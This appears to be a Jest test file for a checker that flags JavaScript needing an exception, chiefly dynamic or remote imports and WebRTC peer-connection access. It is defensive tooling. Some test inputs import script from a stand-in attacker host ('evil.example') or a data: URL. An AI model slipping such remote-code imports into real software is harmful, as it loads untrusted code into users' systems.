import { codeProblems } from './code-problems';

const found = (code: string) => codeProblems(code).map(({ allowance, found: text }) => [allowance, text]);

describe('what of a script needs an exception', () => {
  it.each([
    ['a name that is known at run time alone', 'import(name)'],
    ['a sum', 'import("./" + name)'],
    ['a template with a value', `import(\`./\${name}.js\`)`],
    ['text as code', 'import("data:text/javascript,1")'],
    ['an address', 'import("https://evil.example/a.js")'],
    ['an address without a scheme', "import('//evil.example/a.js')"],
    ['with a comment for a bundler', 'import(/* webpackIgnore: true */ x)'],
    ['an import of an address', 'import "https://evil.example/a.js"'],
    ['an export of an address', 'export * from "data:,"'],
  ])('import: %s', (_what, code) => {
    expect(found(code)).toEqual([['import', code]]);
  });

  it('import: within a function that nothing calls', () => {
    expect(found('(()=>{if(0)import(a)})')).toEqual([['import', 'import(a)']]);
  });

  it.each([
    ['the global', 'new RTCPeerConnection()', 'RTCPeerConnection'],
    ['a member', 'globalThis.RTCPeerConnection', 'RTCPeerConnection'],
    ['a member by its name', 'window["RTCPeerConnection"]', '"RTCPeerConnection"'],
    ['a member by a template', 'window[`webkitRTCPeerConnection`]', '`webkitRTCPeerConnection`'],
    ['taken apart', 'const { RTCPeerConnection: P } = self', 'RTCPeerConnection'],
  ])('webrtc: %s', (_what, code, text) => {
    expect(found(code)).toEqual([['webrtc', text]]);
  });

  it.each([
    ['a file of the build', 'import("./page.js")'],
    ['one above it', "export const a = () => import('../page.js')"],
    ['a template without values', 'import(`./page.js`)'],
    ['a sentence that speaks of it', '"import(x) and RTCPeerConnection"'],
    ['a comment', '/* import(x); new RTCPeerConnection() */'],
    ['a method of that name', 'loader.import(x)'],
    ['a static import of a file beside it', 'import { a } from "./a.js"; export { a }'],
    ['meta', 'import.meta.url'],
    ['sloppy code', 'with (a) { b = 010 }'],
  ])('nothing: %s', (_what, code) => {
    expect(found(code)).toEqual([]);
  });

  it('says where', () => {
    expect(codeProblems('let a;\nlet b; import(a)')).toEqual([
      { allowance: 'import', line: 2, column: 8, found: 'import(a)' },
    ]);
  });

  it('says that it could not read a script', () => {
    expect(codeProblems('let let')).toMatchObject([{ allowance: 'syntax' }]);
  });

  it('reads code as deep as a generator makes it', () => {
    const deep = `${'a+'.repeat(2000)}import(b)`;
    expect(found(deep)).toEqual([['import', 'import(b)']]);
  });
});
